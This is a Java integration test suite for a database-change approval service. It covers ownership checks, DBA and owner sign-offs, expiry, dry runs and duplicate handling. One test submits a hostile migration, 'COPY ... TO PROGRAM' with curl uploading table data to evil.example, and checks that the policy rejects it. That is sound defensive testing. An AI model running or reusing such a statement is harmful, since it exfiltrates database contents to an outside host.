package com.logicore.dbp.approval.messaging;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.logicore.dbp.approval.service.ApprovalExpiry;
import com.logicore.dbp.events.EventEnvelope;
import com.logicore.dbp.events.EventJson;
import com.logicore.dbp.events.EventType;
import com.logicore.dbp.events.RequestType;
import com.logicore.dbp.events.payload.ApprovalRecorded;
import com.logicore.dbp.events.payload.ApprovalRequired;
import com.logicore.dbp.events.payload.JobRequested;
import com.logicore.dbp.events.payload.PolicyEvaluated;
import com.logicore.dbp.events.payload.RequestApproved;
import com.logicore.dbp.events.payload.RequestExpired;
import com.logicore.dbp.events.payload.RequestRejected;
import com.logicore.dbp.events.payload.RequestSubmitted;
import com.logicore.dbp.events.payload.SchemaOwnershipChanged;
import com.logicore.dbp.testkit.kafka.KafkaTestClient;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.vertx.VertxContextSupport;
import jakarta.inject.Inject;
import java.sql.DriverManager;
import java.time.Duration;
import java.time.Instant;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.eclipse.microprofile.config.ConfigProvider;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/** approval-service on the real broker and databases: ownership, index size, human decisions, once per event. */
@QuarkusTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class PolicyDecisionsIT {

    private static final Duration WAIT = Duration.ofSeconds(30);
    private KafkaTestClient kafka;

    @Inject
    ApprovalExpiry expiry;

    @BeforeAll
    void ownersAreKnown() throws Exception {
        kafka = new KafkaTestClient(ConfigProvider.getConfig().getValue("kafka.bootstrap.servers", String.class));
        for (String team : List.of("routing", "fleet", "deliveries")) {
            var changed = new SchemaOwnershipChanged("logicore", team, team);
            kafka.send("dbp.ownership", changed.key(), EventType.SCHEMA_OWNERSHIP_CHANGED, changed.key(), changed);
        }
        String url = ConfigProvider.getConfig().getValue("quarkus.datasource.jdbc.url", String.class);
        await().atMost(WAIT).until(() -> {
            try (var c = DriverManager.getConnection(url, "postgres", "")) {
                var rs = c.createStatement().executeQuery("SELECT count(*) FROM schema_owner");
                rs.next();
                return rs.getInt(1) == 3;
            }
        });
    }

    @AfterAll
    void close() {
        kafka.close();
    }

    @Test
    void indexOnASmallOwnedTableIsApprovedAndSentToTheMigrationWorker() {
        String id = submit("routing", "alice", "routing", index("stops", "route_id"));

        assertThat(decisions(id))
                .contains("com.logicore.dbp.policy.evaluated.v1", "com.logicore.dbp.request.approved.v1");
        var job = kafka.await("dbp.jobs.migration", r -> id.equals(KafkaTestClient.header(r, "ce_subject")), WAIT);
        assertThat(job.key()).isEqualTo("logicore/routing");
        var requested = EventJson.read(job.value(), JobRequested.class);
        assertThat(requested.type()).isEqualTo(RequestType.CREATE_INDEX);
        assertThat(requested.team()).isEqualTo("routing");
        assertThat(requested.payload().get("table").asText()).isEqualTo("stops");
    }

    @Test
    void requestOnAnotherTeamsSchemaIsRejectedWithTheOwnershipFinding() {
        String id = submit("routing", "alice", "deliveries", index("deliveries", "status"));

        var rejected = kafka.await(
                "dbp.decisions",
                r -> id.equals(r.key())
                        && EventType.REQUEST_REJECTED.ceType().equals(KafkaTestClient.header(r, "ce_type")),
                WAIT);
        var payload = EventJson.read(rejected.value(), RequestRejected.class);
        assertThat(payload.rejectedBy()).isEqualTo("policy");
        assertThat(payload.findings().get(0).message()).contains("logicore/deliveries", "owned by team deliveries");
    }

    @Test
    void indexOnALargeTableWaitsForADbaAndNeverForItsRequester() {
        String id = submit("deliveries", "dana", "deliveries", index("deliveries", "status"));
        kafka.await(
                "dbp.decisions",
                r -> id.equals(r.key())
                        && EventType.APPROVAL_REQUIRED.ceType().equals(KafkaTestClient.header(r, "ce_type")),
                WAIT);

        // the requester's own approval is refused even if an event claims it
        approve(id, "dana", "deliveries");
        approve(id, "erin", "dba");

        var approved = kafka.await(
                "dbp.decisions",
                r -> id.equals(r.key())
                        && EventType.REQUEST_APPROVED.ceType().equals(KafkaTestClient.header(r, "ce_type")),
                WAIT);
        assertThat(new String(approved.value())).contains("erin").doesNotContain("dana");
        kafka.await("dbp.jobs.migration", r -> id.equals(KafkaTestClient.header(r, "ce_subject")), WAIT);
    }

    @Test
    void aSafeMigrationOnASmallTableRunsUnattendedWithThePolicysTimeouts() {
        JsonNode payload = EventJson.mapper()
                .valueToTree(Map.of(
                        "migrations",
                        List.of(Map.of(
                                "version",
                                "20",
                                "description",
                                "notes on routes",
                                "sql",
                                "ALTER TABLE routing.routes ADD COLUMN dispatcher_note text"))));
        String id = submit(
                RequestType.SCHEMA_CHANGE,
                "routing",
                "alice",
                "routing",
                payload,
                UUID.randomUUID().toString());

        var evaluated =
                EventJson.read(awaitDecision(id, EventType.POLICY_EVALUATED, 1).value(), PolicyEvaluated.class);
        assertThat(evaluated.outcome()).isEqualTo("AUTO_APPROVED");
        assertThat(evaluated.risk()).isEqualTo(PolicyEvaluated.Risk.LOW);
        assertThat(evaluated.findings()).extracting("code").contains("dryrun.observed", "context.table-size");
        var job = kafka.await("dbp.jobs.migration", r -> id.equals(KafkaTestClient.header(r, "ce_subject")), WAIT);
        var requested = EventJson.read(job.value(), JobRequested.class);
        assertThat(requested.directives().path("lockTimeout").asText()).isEqualTo("5s");
        assertThat(requested.directives().path("allowOutOfOrder").asBoolean()).isFalse();
    }

    @Test
    void anUnmaskedExportWaitsForTheDataOwnerAndItsJobCarriesTheMasking() {
        JsonNode export = EventJson.mapper()
                .valueToTree(Map.of(
                        "tables",
                        List.of("deliveries"),
                        "format",
                        "CSV",
                        "purpose",
                        "analytics: failed deliveries by postal code",
                        "unmasked",
                        true));
        String id = submit(
                RequestType.DATA_EXPORT,
                "deliveries",
                "carol",
                "deliveries",
                export,
                UUID.randomUUID().toString());

        var required =
                EventJson.read(awaitDecision(id, EventType.APPROVAL_REQUIRED, 1).value(), ApprovalRequired.class);
        assertThat(required.approverRoles()).containsExactly("OWNER");
        approve(id, "erin", "dba"); // a DBA is not the data owner
        assertThat(EventJson.read(
                                awaitDecision(id, EventType.APPROVAL_REQUIRED, 2)
                                        .value(),
                                ApprovalRequired.class)
                        .reason())
                .contains("does not count");
        approve(id, "dina", "deliveries");

        awaitDecision(id, EventType.REQUEST_APPROVED, 1);
        var job = kafka.await("dbp.jobs.export", r -> id.equals(KafkaTestClient.header(r, "ce_subject")), WAIT);
        var directives = EventJson.read(job.value(), JobRequested.class).directives();
        assertThat(directives.path("unmasked").asBoolean()).isTrue();
        assertThat(directives.path("masking").findValuesAsText("column"))
                .contains("customer_name", "customer_phone", "customer_email", "delivery_address");
    }

    @Test
    void aMigrationThatRunsAProgramOnTheServerIsRejected() {
        String id = UUID.randomUUID().toString();
        JsonNode payload = EventJson.mapper()
                .valueToTree(Map.of(
                        "migrations",
                        List.of(Map.of(
                                "version",
                                "12",
                                "description",
                                "export stops",
                                "sql",
                                "COPY routing.stops TO PROGRAM 'curl -T - http://evil.example'"))));
        kafka.send(
                "dbp.requests",
                id,
                EventType.REQUEST_SUBMITTED,
                id,
                new RequestSubmitted(
                        id,
                        RequestType.SCHEMA_CHANGE,
                        "routing",
                        "alice",
                        "logicore",
                        "routing",
                        payload,
                        Instant.now()));

        var rejected = kafka.await(
                "dbp.decisions",
                r -> id.equals(r.key())
                        && EventType.REQUEST_REJECTED.ceType().equals(KafkaTestClient.header(r, "ce_type")),
                WAIT);
        var findings = EventJson.read(rejected.value(), RequestRejected.class).findings();
        assertThat(findings).extracting("code").contains("security.copy");
        assertThat(findings.get(0).field()).isEqualTo("payload.migrations[0].sql");
    }

    @Test
    void aLockingMigrationOnTheLargeDemoTableGoesToADbaQuotingItsSize() {
        String id = UUID.randomUUID().toString();
        JsonNode payload = EventJson.mapper()
                .valueToTree(Map.of(
                        "migrations",
                        List.of(Map.of(
                                "version",
                                "3",
                                "description",
                                "more precise weights",
                                "sql",
                                "ALTER TABLE deliveries.deliveries ALTER COLUMN weight_kg TYPE numeric(8,3)"))));
        kafka.send(
                "dbp.requests",
                id,
                EventType.REQUEST_SUBMITTED,
                id,
                new RequestSubmitted(
                        id,
                        RequestType.SCHEMA_CHANGE,
                        "deliveries",
                        "carol",
                        "logicore",
                        "deliveries",
                        payload,
                        Instant.now()));

        kafka.await(
                "dbp.decisions",
                r -> id.equals(r.key())
                        && EventType.APPROVAL_REQUIRED.ceType().equals(KafkaTestClient.header(r, "ce_type")),
                WAIT);
        var evaluated = EventJson.read(
                kafka.await(
                                "dbp.decisions",
                                r -> id.equals(r.key())
                                        && EventType.POLICY_EVALUATED
                                                .ceType()
                                                .equals(KafkaTestClient.header(r, "ce_type")),
                                WAIT)
                        .value(),
                PolicyEvaluated.class);
        assertThat(evaluated.risk()).isEqualTo(PolicyEvaluated.Risk.HIGH);
        assertThat(evaluated.findings()).extracting("code").contains("column.type-change", "context.large-table");
        assertThat(evaluated.findings())
                .anyMatch(f -> f.message().startsWith("deliveries.deliveries: about 150,000 rows"));
        assertThat(evaluated.findings())
                .filteredOn(f -> f.code().equals("dryrun.observed"))
                .singleElement()
                .satisfies(f -> assertThat(f.message())
                        .contains("ACCESS EXCLUSIVE on deliveries.deliveries", "rewrote deliveries.deliveries"));
    }

    @Test
    void aHighRiskChainNeedsADbaAndAnOwnerAndEachPersonCountsOnce() {
        String id = highRiskMigration("5");
        awaitDecision(id, EventType.APPROVAL_REQUIRED, 1);

        approve(id, "erin", "dba");
        approve(id, "erin", "dba"); // the same person again counts once
        var afterDba =
                EventJson.read(awaitDecision(id, EventType.APPROVAL_REQUIRED, 2).value(), ApprovalRequired.class);
        assertThat(afterDba.approverRoles()).containsExactly("OWNER");
        approve(id, "dina", "deliveries"); // an approver of the owning team, not the requester (carol)

        var approved = awaitDecision(id, EventType.REQUEST_APPROVED, 1);
        assertThat(EventJson.read(approved.value(), RequestApproved.class).approvedBy())
                .containsExactly("erin", "dina");
        assertThat(kafka.readToEnd(
                        "dbp.decisions",
                        r -> id.equals(r.key())
                                && EventType.APPROVAL_REQUIRED.ceType().equals(KafkaTestClient.header(r, "ce_type"))))
                .hasSize(2);
    }

    @Test
    void aChainNobodyCompletesExpires() throws Throwable {
        String id = highRiskMigration("6");
        awaitDecision(id, EventType.APPROVAL_REQUIRED, 1);

        int expired = VertxContextSupport.subscribeAndAwait(
                () -> expiry.expireOverdue(OffsetDateTime.now(ZoneOffset.UTC).plusDays(4)));
        assertThat(expired).isPositive();
        var event =
                EventJson.read(awaitDecision(id, EventType.REQUEST_EXPIRED, 1).value(), RequestExpired.class);
        assertThat(event.reason()).contains("DBA", "OWNER");
    }

    private String highRiskMigration(String version) {
        String id = UUID.randomUUID().toString();
        JsonNode payload = EventJson.mapper()
                .valueToTree(Map.of(
                        "migrations",
                        List.of(Map.of(
                                "version",
                                version,
                                "description",
                                "wider weights",
                                "sql",
                                "ALTER TABLE deliveries.deliveries ALTER COLUMN weight_kg TYPE numeric(10,2)"))));
        kafka.send(
                "dbp.requests",
                id,
                EventType.REQUEST_SUBMITTED,
                id,
                new RequestSubmitted(
                        id,
                        RequestType.SCHEMA_CHANGE,
                        "deliveries",
                        "carol",
                        "logicore",
                        "deliveries",
                        payload,
                        Instant.now()));
        return id;
    }

    private ConsumerRecord<String, byte[]> awaitDecision(String id, EventType type, int nth) {
        return kafka.awaitAll(
                        "dbp.decisions",
                        r -> id.equals(r.key()) && type.ceType().equals(KafkaTestClient.header(r, "ce_type")),
                        nth,
                        WAIT)
                .get(nth - 1);
    }

    @Test
    void aMigrationThatFailsInTheDryRunIsRejectedWithTheDatabaseError() {
        String id = UUID.randomUUID().toString();
        JsonNode payload = EventJson.mapper()
                .valueToTree(Map.of(
                        "migrations",
                        List.of(Map.of(
                                "version",
                                "4",
                                "description",
                                "notes",
                                "sql",
                                "ALTER TABLE deliveries.deliveries ADD COLUMN note text;"
                                        + " ALTER TABLE deliveries.deliveries ADD COLUMN note text"))));
        kafka.send(
                "dbp.requests",
                id,
                EventType.REQUEST_SUBMITTED,
                id,
                new RequestSubmitted(
                        id,
                        RequestType.SCHEMA_CHANGE,
                        "deliveries",
                        "carol",
                        "logicore",
                        "deliveries",
                        payload,
                        Instant.now()));

        var rejected = EventJson.read(
                kafka.await(
                                "dbp.decisions",
                                r -> id.equals(r.key())
                                        && EventType.REQUEST_REJECTED
                                                .ceType()
                                                .equals(KafkaTestClient.header(r, "ce_type")),
                                WAIT)
                        .value(),
                RequestRejected.class);
        assertThat(rejected.findings())
                .filteredOn(f -> f.code().equals("dryrun.failed"))
                .singleElement()
                .satisfies(f -> assertThat(f.message()).contains("statement 2", "already exists"));
    }

    @Test
    void aRedeliveredSubmissionIsDecidedOnce() {
        String id = UUID.randomUUID().toString();
        var submitted = new RequestSubmitted(
                id,
                RequestType.CREATE_INDEX,
                "fleet",
                "fred",
                "logicore",
                "fleet",
                index("vehicles", "depot"),
                Instant.now());
        var envelope =
                EventEnvelope.create("/dbp/request-api", EventType.REQUEST_SUBMITTED, id, EventJson.write(submitted));
        kafka.send("dbp.requests", id, envelope);
        kafka.send("dbp.requests", id, envelope);
        String marker = UUID.randomUUID().toString();
        submit("fleet", "fred", "fleet", index("vehicles", "plate"), marker); // processed after both copies

        kafka.await(
                "dbp.decisions",
                r -> marker.equals(r.key())
                        && EventType.REQUEST_APPROVED.ceType().equals(KafkaTestClient.header(r, "ce_type")),
                WAIT);
        List<ConsumerRecord<String, byte[]>> evaluations = kafka.awaitAll(
                "dbp.decisions",
                r -> id.equals(r.key())
                        && EventType.POLICY_EVALUATED.ceType().equals(KafkaTestClient.header(r, "ce_type")),
                1,
                WAIT);
        assertThat(evaluations).hasSize(1);
        assertThat(kafka.awaitAll(
                        "dbp.jobs.migration", r -> id.equals(KafkaTestClient.header(r, "ce_subject")), 1, WAIT))
                .hasSize(1);
    }

    private List<String> decisions(String id) {
        return kafka.awaitAll("dbp.decisions", r -> id.equals(r.key()), 2, WAIT).stream()
                .map(r -> KafkaTestClient.header(r, "ce_type"))
                .toList();
    }

    private String submit(String team, String user, String schema, JsonNode payload) {
        return submit(team, user, schema, payload, UUID.randomUUID().toString());
    }

    private String submit(String team, String user, String schema, JsonNode payload, String id) {
        return submit(RequestType.CREATE_INDEX, team, user, schema, payload, id);
    }

    private String submit(RequestType type, String team, String user, String schema, JsonNode payload, String id) {
        var submitted = new RequestSubmitted(id, type, team, user, "logicore", schema, payload, Instant.now());
        kafka.send("dbp.requests", id, EventType.REQUEST_SUBMITTED, id, submitted);
        return id;
    }

    private void approve(String id, String approver, String team) {
        kafka.send(
                "dbp.requests",
                id,
                EventType.APPROVAL_RECORDED,
                id,
                new ApprovalRecorded(
                        id,
                        ApprovalRecorded.Decision.APPROVE,
                        approver,
                        team,
                        List.of("APPROVER", "REQUESTER"),
                        "dba".equals(team),
                        null,
                        Instant.now()));
    }

    private static JsonNode index(String table, String column) {
        return EventJson.mapper().valueToTree(Map.of("table", table, "columns", List.of(column)));
    }
}
